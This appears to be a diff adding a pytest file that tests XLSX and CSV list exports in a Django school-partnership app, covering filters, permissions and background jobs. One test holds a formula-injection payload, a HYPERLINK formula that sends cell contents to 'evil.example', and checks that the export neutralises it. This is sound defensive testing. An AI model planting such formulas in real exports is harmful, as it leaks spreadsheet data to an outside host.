@@ -1,0 +1,135 @@
+"""Every list as XLSX and CSV: the list's rows for its filters, read back; the list's own
+capability; texts that look like formulas stay texts; long lists go to the worker."""
+
+import csv
+import io
+
+import openpyxl
+import pytest
+from django.urls import reverse
+from django.utils import translation
+
+from mitra.partners.models import Partner
+from mitra.reports import exports, jobs
+from mitra.reports.models import Job
+from mitra.schools.access import access_for
+from tests.conftest import make_partner
+from tests.test_url_sweep import INSIDERS, OUTSIDERS, POLICY
+
+
+@pytest.fixture(autouse=True)
+def in_english(world):
+    for person in world.users.values():
+        person.language = "en"
+        person.save(update_fields=["language"])
+
+
+def _get(client, world, name, **query):
+    return client.get(reverse("reports:export", args=[world.a.pk, name]), query)
+
+
+def _xlsx_rows(response) -> list[list]:
+    book = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
+    return [list(row) for row in book.active.iter_rows(values_only=True)]
+
+
+def _csv_rows(response) -> list[list[str]]:
+    text = response.content.decode("utf-8")
+    assert text.startswith("\ufeff")  # Excel reads the names right only with the mark
+    return list(csv.reader(io.StringIO(text[1:])))
+
+
+@pytest.mark.parametrize("name", list(exports.EXPORTS))
+def test_every_list_exports_every_row_as_xlsx_and_csv(client, evaluation_world, name):
+    world = evaluation_world
+    client.force_login(world.users["principal"])
+    export = exports.EXPORTS[name]
+    access = access_for(world.users["principal"], world.a.pk)
+    expected = export.rows(access, {}).count()
+    with translation.override("en"):  # the principal reads English
+        headers = [str(h) for h, _get in export.columns()]
+    for file_format, read in (("xlsx", _xlsx_rows), ("csv", _csv_rows)):
+        response = _get(client, world, name, format=file_format)
+        assert response.status_code == 200, name
+        assert (
+            "attachment" in response["Content-Disposition"] and response["Content-Type"] == exports.FORMATS[file_format]
+        )
+        rows = read(response)
+        assert [str(h) for h in rows[0]] == headers
+        assert len(rows) - 1 == expected, f"{name} {file_format}: {len(rows) - 1} rows, the list has {expected}"
+    assert expected >= 1, f"the world should give {name} a row to export"
+
+
+def test_the_export_keeps_the_lists_filters(client, run_world):
+    world = run_world
+    make_partner(world.a, "Polsek Kota", kind=Partner.Kind.POLICE)
+    client.force_login(world.users["principal"])
+    rows = _xlsx_rows(_get(client, world, "partners", kind="police", format="xlsx"))
+    police = Partner.objects.for_school(world.a).filter(kind="police", archived_at__isnull=True).order_by("name")
+    assert [r[0] for r in rows[1:]] == [p.name for p in police] and "Polsek Kota" in [r[0] for r in rows]
+    assert {r[1] for r in rows[1:]} == {"Police"}
+    everything = _xlsx_rows(_get(client, world, "partners", format="xlsx"))
+    assert len(everything) - 1 == Partner.objects.for_school(world.a).filter(archived_at__isnull=True).count()
+
+
+def test_a_text_that_looks_like_a_formula_stays_a_text(client, world):
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
+    make_partner(world.a, evil)
+    client.force_login(world.users["principal"])
+    book = openpyxl.load_workbook(io.BytesIO(_get(client, world, "partners", format="xlsx").content))
+    cell = next(c for c in book.active["A"] if c.value == evil)
+    assert cell.data_type == "s"
+    rows = _csv_rows(_get(client, world, "partners", format="csv"))
+    assert ["'" + evil] in [r[:1] for r in rows]
+
+
+@pytest.mark.parametrize("name", list(exports.EXPORTS))
+def test_an_export_asks_for_the_lists_own_capability(client, world, name):
+    permission = exports.EXPORTS[name].permission
+    for actor in INSIDERS + OUTSIDERS:
+        client.force_login(world.users[actor])
+        status = _get(client, world, name).status_code
+        expected = 404 if actor in OUTSIDERS else 200 if actor in POLICY[permission] else 403
+        assert status == expected, f"{actor} on {name}: {status}, expected {expected}"
+
+
+def test_a_partner_representative_exports_only_their_own_partners_activities(client, run_world):
+    from mitra.activities import services as activities
+
+    world = run_world
+    activities.quick_record(
+        school=world.a, user=world.users["team_member"], partner=world.other_partner, sentence="Kunjungan lain"
+    )
+    client.force_login(world.users["partner_rep"])
+    rows = _xlsx_rows(_get(client, world, "activities", format="xlsx"))
+    titles = [r[2] for r in rows[1:]]
+    assert "Kunjungan lain" not in titles and world.done_activity.title in titles
+
+
+def test_a_long_list_is_made_by_the_worker(client, world, monkeypatch):
+    monkeypatch.setattr(exports, "SYNC_ROWS", 1)
+    make_partner(world.a, "Mitra Dua")
+    client.force_login(world.users["principal"])
+    response = _get(client, world, "partners", format="csv", status="prospect")
+    job = Job.objects.for_school(world.a).get()
+    assert response.status_code == 302 and response["Location"] == reverse("reports:job", args=[world.a.pk, job.pk])
+    assert job.params == {"list": "partners", "query": "status=prospect", "format": "csv"}
+    assert jobs.run(job.pk) == "done"
+    download = client.get(reverse("reports:download", args=[world.a.pk, job.pk]))
+    rows = _csv_rows(type("R", (), {"content": b"".join(download.streaming_content)}))
+    assert (
+        len(rows) - 1 == Partner.objects.for_school(world.a).filter(status="prospect", archived_at__isnull=True).count()
+    )
+
+
+def test_an_unknown_list_or_format_is_not_found(client, world):
+    client.force_login(world.users["principal"])
+    assert _get(client, world, "passwords").status_code == 404
+    assert _get(client, world, "partners", format="exe").status_code == 404
+
+
+def test_the_list_pages_link_to_their_export_with_their_filters(client, run_world):
+    world = run_world
+    client.force_login(world.users["principal"])
+    page = client.get(reverse("partners:list", args=[world.a.pk]), {"kind": "health_centre"}).content.decode()
+    assert reverse("reports:export", args=[world.a.pk, "partners"]) + "?kind=health_centre&amp;format=xlsx" in page
